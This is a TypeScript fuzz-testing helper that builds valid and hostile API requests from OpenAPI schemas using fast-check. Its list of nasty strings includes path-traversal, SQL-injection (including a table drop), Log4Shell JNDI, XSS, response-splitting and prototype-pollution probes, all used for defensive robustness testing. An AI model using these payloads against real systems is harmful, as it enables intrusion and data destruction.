// Requests made from the OpenAPI documents (openapi/*.json): for each operation, valid values of
// every parameter and body field, and hostile ones (wrong types, boundaries, huge strings,
// unicode that breaks naive code), drawn by fast-check from a seed so a run can be replayed.
import fc from 'fast-check';

/** The JSON Schema the documents use (TypeBox's output, its `$ref`s to components resolved by {@link operationsOf}). */
export interface JsonSchema {
  type?: string | string[];
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  uniqueItems?: boolean;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  format?: string;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
}

export interface Parameter {
  name: string;
  in: 'path' | 'query' | 'header';
  required?: boolean;
  schema: JsonSchema;
}

export interface Operation {
  service: string;
  method: string;
  /** The OpenAPI path, `/v1/bursts/{burstId}`. */
  path: string;
  parameters: Parameter[];
  body: JsonSchema | undefined;
  /** Security scheme names, any one of which admits (personJwt, stationToken, facilityToken). */
  security: string[];
  /** The statuses it documents. */
  responses: string[];
}

/** Every operation of a document. */
/** What this test reads of an OpenAPI operation object. */
interface OperationObject {
  parameters?: Parameter[];
  requestBody?: { content?: Record<string, { schema?: JsonSchema }> };
  security?: Array<Record<string, unknown>>;
  responses?: Record<string, unknown>;
}

export function operationsOf(
  service: string,
  document: { paths: Record<string, Record<string, OperationObject>>; components?: { schemas?: object } },
): Operation[] {
  const out: Operation[] = [];
  const paths = dereference(document.paths, (document.components?.schemas ?? {}) as Record<string, unknown>);
  for (const [path, item] of Object.entries(paths))
    for (const [method, op] of Object.entries(item)) {
      out.push({
        service,
        method: method.toUpperCase(),
        path,
        parameters: op.parameters ?? [],
        body: op.requestBody?.content?.['application/json']?.schema,
        security: (op.security ?? []).flatMap((s) => Object.keys(s)),
        responses: Object.keys(op.responses ?? {}),
      });
    }
  return out;
}

/** The document with each `#/components/schemas/` reference replaced by the component (none is recursive). */
function dereference<T>(node: T, components: Record<string, unknown>): T {
  if (Array.isArray(node)) return node.map((n) => dereference(n, components)) as T;
  if (node === null || typeof node !== 'object') return node;
  const ref = (node as { $ref?: unknown }).$ref;
  if (typeof ref === 'string' && ref.startsWith('#/components/schemas/'))
    return dereference(components[ref.slice('#/components/schemas/'.length)] as T, components);
  return Object.fromEntries(Object.entries(node).map(([k, v]) => [k, dereference(v, components)])) as T;
}

const HUGE = 1_000_000;

/** Strings that break naive handling: encodings, controls, traversal, injection, odd dates. */
export const NASTY_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff',
  'x\ud83dy',
  '\u202eevil\u202c',
  '\u200f\u05e9\u05dc\u05d5\u05dd',
  '\ufeff',
  '\u200b',
  'e\u0301\u0301\u0301\u0301',
  '🛰️🔭'.repeat(20),
  '\r\n\r\nHTTP/1.1 200 OK',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  "' OR 1=1 --",
  '"; drop table vhf.packets; --',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell probe, meant literally
  '${jndi:ldap://x/a}',
  '<script>alert(1)</script>',
  '%00',
  '%',
  '%zz',
  '\\',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e400',
  '0x10',
  '9007199254740993',
  '2026-13-45T99:99:99Z',
  '0000-00-00T00:00:00Z',
  '+275760-09-13T00:00:00.000Z',
  '-271821-04-20T00:00:00.000Z',
  '9999-12-31T23:59:59.999Z',
  '1970-01-01T00:00:00Z',
  '2026-02-30T00:00:00Z',
  '__proto__',
  'constructor',
  'sb00000000',
  'sb99999999',
];

const NASTY_NUMBERS: readonly number[] = [
  0,
  -0,
  -1,
  1,
  0.5,
  -0.5,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53 + 2,
  -(2 ** 53) - 2,
  1e308,
  -1e308,
  5e-324,
  Number.MAX_SAFE_INTEGER,
  Number.MIN_SAFE_INTEGER,
];

/** A value the schema accepts (bounded sizes, so requests stay small). */
export function validValue(schema: JsonSchema): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map(validValue));
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'null':
      return fc.constant(null);
    case 'boolean':
      return fc.boolean();
    case 'integer': {
      const min = Math.max(
        schema.minimum ?? -1e6,
        schema.exclusiveMinimum !== undefined ? schema.exclusiveMinimum + 1 : -1e9,
      );
      const max = Math.min(
        schema.maximum ?? 1e6,
        schema.exclusiveMaximum !== undefined ? schema.exclusiveMaximum - 1 : 1e9,
      );
      return fc.oneof(fc.integer({ min, max }), fc.constantFrom(min, max));
    }
    case 'number': {
      const min = schema.minimum ?? schema.exclusiveMinimum ?? -1e6;
      const max = schema.maximum ?? schema.exclusiveMaximum ?? 1e6;
      const inside = (n: number) =>
        (schema.exclusiveMinimum === undefined || n > schema.exclusiveMinimum) &&
        (schema.exclusiveMaximum === undefined || n < schema.exclusiveMaximum);
      return fc
        .oneof(fc.double({ min, max, noNaN: true, noDefaultInfinity: true }), fc.constantFrom(min, max))
        .filter(inside);
    }
    case 'string':
      return validString(schema);
    case 'array': {
      const items = validValue(schema.items ?? {});
      const minLength = schema.minItems ?? 0;
      const maxLength = Math.min(schema.maxItems ?? 4, Math.max(minLength, 4));
      return schema.uniqueItems
        ? fc.uniqueArray(items, { minLength, maxLength, selector: (v) => JSON.stringify(v) })
        : fc.array(items, { minLength, maxLength });
    }
    case 'object':
      return validObject(schema);
    default:
      return fc.oneof(fc.string({ maxLength: 8 }), fc.integer(), fc.boolean());
  }
}

function validString(schema: JsonSchema): fc.Arbitrary<string> {
  const minLength = schema.minLength ?? 0;
  const maxLength = Math.min(schema.maxLength ?? 40, Math.max(minLength, 40));
  // Lengths in code points, as the validator counts them.
  const fits = (s: string) => {
    const length = [...s].length;
    return length >= minLength && length <= (schema.maxLength ?? Number.POSITIVE_INFINITY);
  };
  if (schema.format === 'date-time')
    return fc
      .date({ min: new Date('2020-01-01T00:00:00Z'), max: new Date('2030-12-31T00:00:00Z'), noInvalidDate: true })
      .map((d) => d.toISOString());
  if (schema.format === 'email') return fc.emailAddress().filter(fits);
  if (schema.format === 'uri') return fc.webUrl().filter(fits);
  if (schema.pattern) return fc.stringMatching(new RegExp(schema.pattern)).filter(fits);
  // Any code point but NUL, which the kit refuses everywhere (it is among the hostile values).
  return fc.oneof(
    fc.string({ minLength, maxLength, unit: 'grapheme-ascii' }),
    fc.string({ minLength, maxLength, unit: 'binary' }).map((s) => s.replaceAll('\u0000', ' ')),
  );
}

function validObject(schema: JsonSchema): fc.Arbitrary<Record<string, unknown>> {
  const properties = schema.properties ?? {};
  const required = new Set(schema.required ?? []);
  const keys = Object.keys(properties);
  if (keys.length === 0) return fc.constant({});
  return fc.record(Object.fromEntries(keys.map((k) => [k, validValue(properties[k]!)])), {
    requiredKeys: keys.filter((k) => required.has(k)),
  }) as fc.Arbitrary<Record<string, unknown>>;
}

/** A value of the wrong kind or at or past a boundary of this schema, or simply nasty. */
export function hostileValue(schema: JsonSchema): fc.Arbitrary<unknown> {
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  const options: fc.Arbitrary<unknown>[] = [
    fc.constantFrom(...NASTY_STRINGS),
    fc.constantFrom(...NASTY_NUMBERS),
    fc.constantFrom(
      null,
      true,
      false,
      [],
      {},
      [null],
      { __proto__: { polluted: 1 } },
      { constructor: { prototype: { x: 1 } } },
    ),
    fc.constant('x'.repeat(HUGE)),
    fc.constant('\u202e'.repeat(HUGE / 4)),
    fc.string({ maxLength: 30, unit: 'binary' }),
    fc.string({ maxLength: 30, unit: 'grapheme' }),
  ];
  if (type === 'integer' || type === 'number') {
    const edges = [schema.minimum, schema.maximum, schema.exclusiveMinimum, schema.exclusiveMaximum].filter(
      (n): n is number => n !== undefined,
    );
    for (const n of edges) options.push(fc.constantFrom(n - 1, n, n + 1, n - 1e-9, n + 1e-9, String(n + 1)));
    options.push(fc.double(), fc.integer());
  }
  if (type === 'string') {
    if (schema.maxLength !== undefined) options.push(fc.constant('z'.repeat(schema.maxLength + 1)));
    if (schema.minLength) options.push(fc.constant('z'.repeat(schema.minLength - 1)));
    if (schema.format === 'date-time')
      options.push(fc.date().map((d) => (Number.isNaN(d.getTime()) ? 'Invalid Date' : d.toISOString())));
    options.push(fc.integer());
  }
  if (type === 'array') {
    options.push(
      fc.constant(Array.from({ length: (schema.maxItems ?? 1000) + 1 }, () => 0)),
      fc.array(hostileLeaf(), { maxLength: 5 }),
      fc.constant(Array.from({ length: 10_000 }, (_, i) => i)),
    );
  }
  if (type === 'object') options.push(fc.constant(deeplyNested(2000)), fc.dictionary(fc.string(), hostileLeaf()));
  return fc.oneof(...options);
}

function hostileLeaf(): fc.Arbitrary<unknown> {
  return fc.oneof(fc.constantFrom(...NASTY_STRINGS), fc.constantFrom(...NASTY_NUMBERS), fc.constant(null));
}

function deeplyNested(depth: number): unknown {
  let value: unknown = 0;
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
}

/** Every field of a body schema by its JSON path (`receptions/0/frame`), with its schema. */
export function fieldsOf(schema: JsonSchema, path: string[] = []): Array<{ path: string[]; schema: JsonSchema }> {
  const out = [{ path, schema }];
  if (schema.properties) for (const [k, s] of Object.entries(schema.properties)) out.push(...fieldsOf(s, [...path, k]));
  if (schema.items) out.push(...fieldsOf(schema.items, [...path, '0']));
  if (schema.anyOf) for (const s of schema.anyOf) if (s.properties || s.items) out.push(...fieldsOf(s, path));
  return out;
}

/** `value` with the field at `path` replaced (made, when missing), or removed when `replacement` is REMOVE. */
export const REMOVE = Symbol('remove');
export function withField(value: unknown, path: string[], replacement: unknown): unknown {
  if (path.length === 0) return replacement === REMOVE ? undefined : replacement;
  const [head, ...rest] = path as [string, ...string[]];
  const container: Record<string, unknown> | unknown[] = Array.isArray(value)
    ? [...value]
    : value && typeof value === 'object'
      ? { ...(value as Record<string, unknown>) }
      : /^\d+$/.test(head)
        ? []
        : {};
  const current = (container as Record<string, unknown>)[head];
  const next = withField(current, rest, replacement);
  if (next === undefined && rest.length === 0 && replacement === REMOVE)
    delete (container as Record<string, unknown>)[head];
  else (container as Record<string, unknown>)[head] = next;
  return container;
}

/** A parameter's value as it goes in a URL: percent-encoded UTF-8, lone surrogates as their raw bytes. */
export function urlEncode(value: unknown): string {
  const text = typeof value === 'string' ? value : (JSON.stringify(value) ?? 'undefined');
  try {
    return encodeURIComponent(text);
  } catch {
    // A lone surrogate has no UTF-8: send the bytes a careless encoder would (CESU-8).
    return [...text]
      .map((c) => {
        const code = c.charCodeAt(0);
        if (code >= 0xd800 && code <= 0xdfff)
          return [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)]
            .map((b) => `%${b.toString(16).toUpperCase()}`)
            .join('');
        return encodeURIComponent(c);
      })
      .join('');
  }
}
